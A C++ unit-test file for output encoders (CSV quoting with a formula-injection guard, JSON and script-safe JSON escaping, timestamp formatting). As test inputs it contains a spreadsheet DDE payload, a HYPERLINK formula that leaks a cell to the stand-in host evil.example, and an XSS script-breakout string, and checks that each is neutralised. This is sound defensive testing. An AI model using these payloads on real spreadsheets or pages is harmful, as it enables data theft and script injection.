// The byte-level encoders every output shares.
#include "paa/output/text.hpp"

#include "paa/model/csv_guard.hpp"

#include "render.hpp"

#include <boost/json/parse.hpp>

#include <gtest/gtest.h>

#include <cstdint>
#include <string>

namespace paa {
namespace {

using test::render;

std::string csv(std::string_view field, CsvText text = CsvText::raw) {
  return render([&](BufferedOutput& out) { append_csv_field(out, field, text); });
}
std::string json_string(std::string_view text) {
  return render([&](BufferedOutput& out) { append_json_string(out, text); });
}
std::string encode(std::string_view text) {
  return render([&](BufferedOutput& out) { append_script_json_string(out, text); }, 8);
}

// OWASP "CSV Injection": a text cell a spreadsheet would evaluate gets a leading ' (shown, never
// evaluated); plain numbers and everything else stay as they are; raw keeps every cell.
TEST(CsvField, FormulaLikeTextIsGuardedAndNumbersAreNot) {
  const auto guarded = [](std::string_view f) { return csv(f, CsvText::guarded); };
  EXPECT_EQ(guarded("=1+1"), "'=1+1");
  EXPECT_EQ(guarded("@SUM(A1:A2)"), "'@SUM(A1:A2)");
  EXPECT_EQ(guarded("-2+3"), "'-2+3");
  EXPECT_EQ(guarded("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
  EXPECT_EQ(guarded("\tx"), "'\tx");
  EXPECT_EQ(guarded("\rx"), "\"'\rx\"") << "quoted for the CR, the guard inside the quotes";
  EXPECT_EQ(guarded("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"");
  for (std::string_view number : {"-3", "+5", "-0.25", "1e5", "-1.5E-3", ".5", "-.5", "42"}) {
    EXPECT_EQ(guarded(number), number) << "a plain number is no formula";
  }
  for (std::string_view text : {"a=b", "What is 2+2?", "", "'=already quoted", " =spaced"}) {
    EXPECT_EQ(guarded(text), csv(text)) << text;
  }
  EXPECT_EQ(guarded("-"), "'-");
  EXPECT_EQ(guarded("-e5"), "'-e5");
  EXPECT_EQ(csv("=1+1", CsvText::raw), "=1+1");
  EXPECT_EQ(render([](BufferedOutput& out) { append_csv_fields(out, CsvText::guarded, {"=a", "b", "-1"}); }),
            "'=a,b,-1");
  EXPECT_EQ(render([](BufferedOutput& out) { append_csv_key_columns(out, CsvText::guarded, "=q", "en", "us", ""); }),
            "'=q,en,us,,");
}

TEST(CsvField, AGuardedCellReadBackLosesItsGuardOnly) {
  EXPECT_EQ(csv_unguarded("'=1+1"), "=1+1");
  EXPECT_EQ(csv_unguarded("'-2+3"), "-2+3");
  EXPECT_EQ(csv_unguarded("'-3"), "'-3") << "not something the guard writes";
  EXPECT_EQ(csv_unguarded("'tis the season"), "'tis the season");
  EXPECT_EQ(csv_unguarded("=1+1"), "=1+1");
  EXPECT_EQ(csv_unguarded("'"), "'");
  for (std::string_view text : {"=1+1", "@x", "-2+3", "\tt"}) {
    EXPECT_EQ(csv_unguarded(csv(text, CsvText::guarded)), text) << "round trip";
  }
}

TEST(CsvField, PlainFieldsAreNotQuoted) {
  EXPECT_EQ(csv("plain text"), "plain text");
  EXPECT_EQ(csv(""), "");
  EXPECT_EQ(csv("Café ☕ 東京"), "Café ☕ 東京");
}

TEST(CsvField, CommasQuotesAndLineBreaksAreQuotedAndQuotesDoubled) {
  EXPECT_EQ(csv("a,b"), "\"a,b\"");
  EXPECT_EQ(csv("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(csv("\""), "\"\"\"\"");
  EXPECT_EQ(csv("line1\nline2"), "\"line1\nline2\"");
  EXPECT_EQ(csv("cr\rhere"), "\"cr\rhere\"");
  EXPECT_EQ(csv("ünï, \"cödé\""), "\"ünï, \"\"cödé\"\"\"");
}

TEST(JsonString, EscapesQuotesBackslashesAndControlCharacters) {
  EXPECT_EQ(json_string("plain"), "\"plain\"");
  EXPECT_EQ(json_string("a\"b\\c"), R"("a\"b\\c")");
  EXPECT_EQ(json_string("l1\nl2\tx\r"), R"("l1\nl2\tx\r")");
  EXPECT_EQ(json_string(std::string("\x01\x1f", 2)), R"("\u0001\u001f")");
  EXPECT_EQ(json_string("東京 ☕"), "\"東京 ☕\"");
}

TEST(Rfc3339, FormatsUtcWithMilliseconds) {
  EXPECT_EQ(format_rfc3339_ms(1795218854123), "2026-11-20T23:54:14.123Z");
  EXPECT_EQ(format_rfc3339_ms(0), "1970-01-01T00:00:00.000Z");
  EXPECT_EQ(format_rfc3339_ms(-1), "1969-12-31T23:59:59.999Z");
  EXPECT_EQ(format_rfc3339_ms(951782400000), "2000-02-29T00:00:00.000Z");
  EXPECT_EQ(format_rfc3339_ms(4102444799999), "2099-12-31T23:59:59.999Z");
}

TEST(ScriptJson, HtmlSignificantCharactersAreUnicodeEscapes) {
  EXPECT_EQ(encode("</script><img src=x onerror=alert(1)>&amp;"),
            R"("\u003c/script\u003e\u003cimg src=x onerror=alert(1)\u003e\u0026amp;")");
  EXPECT_EQ(encode("<!-- x -->"), R"("\u003c!-- x --\u003e")");
}

TEST(ScriptJson, QuotesBackslashesAndControlsAsInJson) {
  EXPECT_EQ(encode("say \"hi\" \\ \n\t\x01"), R"("say \"hi\" \\ \n\t\u0001")");
  EXPECT_EQ(encode("it's"), R"("it's")");
}

TEST(ScriptJson, LineAndParagraphSeparatorsAreEscapedOtherUtf8Kept) {
  EXPECT_EQ(encode("a\u2028b\u2029c"), R"("a\u2028b\u2029c")");
  EXPECT_EQ(encode("Café – 東京 ☕ \u2026"), "\"Café – 東京 ☕ \u2026\"");  // E2 80 A6 is kept
  EXPECT_EQ(encode("\xE2"), "\"\xE2\"");  // a truncated sequence is copied, not read past
}

TEST(ScriptJson, ParsesBackToTheSameText) {
  const std::string text = "</script>\"'<b>&\u2028\n☕";
  EXPECT_EQ(boost::json::parse(encode(text)).as_string(), text);
}

TEST(Decimal, IntegersOfEveryWidthAndSign) {
  EXPECT_EQ(render([](BufferedOutput& out) {
              append_decimal(out, std::uint64_t{18446744073709551615u});
              out.put(' ');
              append_decimal(out, std::int64_t{-42});
              out.put(' ');
              append_decimal(out, 0);
              out.put(' ');
              append_decimal(out, std::uint32_t{7});
            }),
            "18446744073709551615 -42 0 7");
}

TEST(CsvField, FieldsAreSeparatedByCommasEachQuotedAsItNeeds) {
  EXPECT_EQ(render([](BufferedOutput& out) { append_csv_fields(out, CsvText::raw, {"a", "b,c", "", "d\"e"}); }), "a,\"b,c\",,\"d\"\"e\"");
  EXPECT_EQ(render([](BufferedOutput& out) { append_csv_fields(out, CsvText::raw, {}); }), "");
}

TEST(KeyColumns, CsvColumnsEndInACommaAndJsonMembersWriteNoCityAsNull) {
  EXPECT_EQ(render([](BufferedOutput& out) { append_csv_key_columns(out, CsvText::raw, "a, b", "en", "us", ""); }), "\"a, b\",en,us,,");
  EXPECT_EQ(render([](BufferedOutput& out) { append_key_members(out, "q\"", "en", "us", ""); }),
            R"("q":"q\"","hl":"en","gl":"us","city":null)");
  EXPECT_EQ(render([](BufferedOutput& out) { append_key_members(out, "q", "de", "de", "Köln"); }),
            R"("q":"q","hl":"de","gl":"de","city":"Köln")");
}

}  // namespace
}  // namespace paa
